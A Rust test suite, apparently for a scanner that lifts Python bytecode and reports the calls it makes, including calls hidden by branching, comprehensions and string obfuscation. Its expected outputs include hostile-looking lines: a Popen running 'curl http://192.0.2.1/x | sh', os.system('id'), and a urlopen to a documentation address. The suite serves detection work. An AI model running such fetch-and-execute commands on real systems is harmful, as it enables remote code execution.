//! What programs say of bytecode.

use super::super::{Value, Version, lift as lift_code};
use super::fixtures::{BRANCH, COMPREHENSION, MODULE, NORMALIZE, POPEN};
use super::{check, read, recipe, show};
use std::sync::Arc;
use wb_core::{Budget, OpKind, Program, Trigger, ValueId};

#[test]
fn every_version_yields_the_same_calls() {
    for (version, code) in POPEN {
        let wanted = [
            "__import__('subprocess')",
            "__import__('subprocess').Popen('curl http://192.0.2.1/x | sh', shell=True)",
        ];
        assert_eq!(check(&read(code)), wanted, "{version}");
    }
    for (version, code) in NORMALIZE {
        assert_eq!(check(&read(code)), ["K.l2_normalize(x, axis=1)"], "{version}");
    }
    // Some compilers copy the call into both branches, some join the callables before it.
    for (version, code) in BRANCH {
        let calls = check(&read(code));
        let joined = "(either print, __import__('os').system)('id')";
        let both = ["print('id')", "__import__('os').system('id')"];
        let has = |wanted: &str| calls.iter().any(|call| call == wanted);
        assert!(has(joined) || both.into_iter().all(has), "{version}: {calls:?}");
    }
}

#[test]
fn comprehensions_are_followed_inlined_or_not() {
    for (version, code) in COMPREHENSION {
        let calls = check(&read(code));
        let wanted = |call: &String| call.starts_with("__import__('os').system((element ");
        assert!(calls.iter().any(wanted), "{version}: {calls:?}");
    }
}

#[test]
fn a_module_is_followed_into_its_classes_and_functions() {
    for (version, code) in MODULE {
        let calls = check(&read(code));
        for wanted in [
            "open('f')",
            "run((* a), **=k)",
            "r.urlopen('http://198.51.100.7/')",
            "s.gethostname()",
            "A().f(q, env=Dict('a', 1))",
            "<function A>()",
        ] {
            assert!(calls.iter().any(|call| call == wanted), "{version}: {wanted} in {calls:?}");
        }
        let program = lift_code(&read(code), Trigger::Load, &mut Budget::default());
        let class = body(&program, "A");
        let function = body(class, "f");
        let default = function.ops.iter().find_map(|op| match &op.kind {
            OpKind::Store { name, value } if name == "run" => Some(show(function, *value)),
            _ => None,
        });
        assert_eq!(default.as_deref(), Some("os.system"), "{version}");
    }
}

fn body<'p>(program: &'p Program, wanted: &str) -> &'p Program {
    let found = program.ops.iter().find_map(|op| match &op.kind {
        OpKind::Define { name, body } if name == wanted => Some(body.as_ref()),
        _ => None,
    });
    found.unwrap_or_else(|| panic!("{wanted} is defined"))
}

#[test]
fn ops_point_at_their_bytecode() {
    let (_, code) = POPEN[1];
    let code = read(code);
    let program = lift_code(&code, Trigger::Inference, &mut Budget::default());
    let start = code.code_span.expect("read from marshal").start;
    for op in &program.ops {
        assert!(op.span.len >= 2 && op.span.start >= start + op.number - 2, "{op:?}");
        assert!(op.span.end() <= code.span.end(), "{op:?}");
    }
}

#[test]
fn calling_conventions_of_versions_without_a_fixture() {
    let names = ["exec", "f", "os"];
    let plain = "LOAD_GLOBAL 0\nLOAD_CONST 1\nCALL_FUNCTION 1\nRETURN_VALUE";
    for minor in 0..=9 {
        let code = recipe(Version::three(minor), plain, &["pass"], &names);
        assert_eq!(check(&code), ["exec('pass')"], "3.{minor}");
    }
    assert_eq!(check(&recipe(Version::TWO, plain, &["pass"], &names)), ["exec('pass')"]);
    let statement = "LOAD_CONST 1\nLOAD_CONST 0\nDUP_TOP\nEXEC_STMT\nLOAD_CONST 0\nRETURN_VALUE";
    assert_eq!(check(&recipe(Version::TWO, statement, &["pass"], &names)), ["exec('pass')"]);
    let method = "LOAD_GLOBAL 2\nLOAD_METHOD 1\nLOAD_CONST 1\nCALL_METHOD 1\nRETURN_VALUE";
    for minor in 7..=9 {
        let code = recipe(Version::three(minor), method, &["a"], &names);
        assert_eq!(check(&code), ["os.f('a')"], "3.{minor}");
    }
    let pairs = "LOAD_GLOBAL 1\nLOAD_CONST 1\nLOAD_CONST 2\nLOAD_CONST 3\nCALL_FUNCTION 257\n\
                 RETURN_VALUE";
    let code = recipe(Version::three(5), pairs, &["a", "key", "b"], &names);
    assert_eq!(check(&code), ["f('a', key='b')"]);
    let unpacking = "LOAD_GLOBAL 1\nLOAD_CONST 1\nBUILD_TUPLE 1\nLOAD_CONST 2\nLOAD_CONST 3\n\
                     BUILD_MAP 1\nCALL_FUNCTION_EX 1\nRETURN_VALUE";
    let code = recipe(Version::three(8), unpacking, &["a", "key", "b"], &names);
    assert_eq!(check(&code), ["f('a', key='b')"]);
}

#[test]
fn keyword_names_come_from_the_constants() {
    let mut code = recipe(
        Version::three(6),
        "LOAD_GLOBAL 0\nLOAD_CONST 1\nLOAD_CONST 2\nLOAD_CONST 3\nCALL_FUNCTION_KW 2\nRETURN_VALUE",
        &["a", "b"],
        &["f"],
    );
    code.consts.push(Value::Tuple(Arc::new([Value::Text("key".into())])));
    assert_eq!(check(&code), ["f('a', key='b')"]);
}

#[test]
fn values_that_meet_are_either_and_loops_forget() {
    // y = print if x else exec; y('id')
    let joined = "LOAD_FAST 0\nPOP_JUMP_IF_FALSE 10\nLOAD_GLOBAL 0\nSTORE_FAST 1\nJUMP_FORWARD 4\n\
                  LOAD_GLOBAL 1\nSTORE_FAST 1\nLOAD_FAST 1\nLOAD_CONST 1\nCALL_FUNCTION 1\n\
                  RETURN_VALUE";
    let code = recipe(Version::three(8), joined, &["id"], &["print", "exec"]);
    assert_eq!(check(&code), ["(either print, exec)('id')"]);
    // The same variable, set once: the value itself.
    let straight = "LOAD_GLOBAL 1\nSTORE_FAST 1\nLOAD_FAST 1\nLOAD_CONST 1\nCALL_FUNCTION 1\n\
                    RETURN_VALUE";
    let code = recipe(Version::three(8), straight, &["id"], &["print", "exec"]);
    assert_eq!(check(&code), ["exec('id')"]);
    // y = print; while x: y('id'); y = exec
    let looped = "LOAD_GLOBAL 0\nSTORE_FAST 1\nLOAD_FAST 0\nPOP_JUMP_IF_FALSE 22\nLOAD_FAST 1\n\
                  LOAD_CONST 1\nCALL_FUNCTION 1\nPOP_TOP\nLOAD_GLOBAL 1\nSTORE_FAST 1\n\
                  JUMP_ABSOLUTE 4\nLOAD_CONST 0\nRETURN_VALUE";
    let code = recipe(Version::three(8), looped, &["id"], &["print", "exec"]);
    assert_eq!(check(&code), ["y('id')"]);
}

#[test]
fn text_that_needs_no_running_is_put_together() {
    let added =
        "LOAD_GLOBAL 0\nLOAD_CONST 1\nLOAD_CONST 2\nBINARY_ADD\nCALL_FUNCTION 1\nRETURN_VALUE";
    let code = recipe(Version::three(8), added, &["cu", "rl"], &["f"]);
    assert_eq!(check(&code), ["f('curl')"]);
    let mut code = recipe(
        Version::three(8),
        "LOAD_GLOBAL 0\nLOAD_CONST 1\nLOAD_CONST 0\nLOAD_CONST 0\nLOAD_CONST 2\nBUILD_SLICE 3\n\
         BINARY_SUBSCR\nCALL_FUNCTION 1\nRETURN_VALUE",
        &["metsys"],
        &["f"],
    );
    code.consts.push(Value::Int(-1));
    assert_eq!(check(&code).last().map(String::as_str), Some("f('system')"));
    let unknown =
        "LOAD_GLOBAL 0\nLOAD_CONST 1\nLOAD_FAST 0\nBINARY_ADD\nCALL_FUNCTION 1\nRETURN_VALUE";
    let code = recipe(Version::three(8), unknown, &["cu"], &["f"]);
    assert_eq!(check(&code), ["f((+ 'cu', x))"]);
}

#[test]
fn imports_yield_what_python_yields() {
    let both = "LOAD_CONST 0\nLOAD_CONST 0\nIMPORT_NAME 0\nSTORE_FAST 1\nLOAD_FAST 1\nLOAD_METHOD 1\n\
                CALL_METHOD 0\nPOP_TOP\nLOAD_CONST 0\nLOAD_CONST 0\nIMPORT_NAME 0\nIMPORT_FROM 1\n\
                STORE_FAST 2\nPOP_TOP\nLOAD_FAST 2\nCALL_FUNCTION 0\nRETURN_VALUE";
    let code = recipe(Version::three(8), both, &[], &["a.b", "c"]);
    assert_eq!(check(&code), ["<a>.c()", "<a.b>.c()"]);
}

#[test]
fn constants_are_not_lost_where_values_meet_or_nothing_loads_them() {
    let lines = "LOAD_FAST 0\nJUMP_IF_TRUE_OR_POP 6\nLOAD_CONST 1\nRETURN_VALUE";
    let code = recipe(Version::three(8), lines, &["part", "docstring"], &[]);
    let program = lift_code(&code, Trigger::Inference, &mut Budget::default());
    assert_eq!(show(&program, ValueId(0)), "'docstring'");
    let returned = program.ops.iter().find_map(|op| match op.kind {
        OpKind::Return { value } => Some(show(&program, value)),
        _ => None,
    });
    assert_eq!(returned.as_deref(), Some("(either x, 'part')"));
}
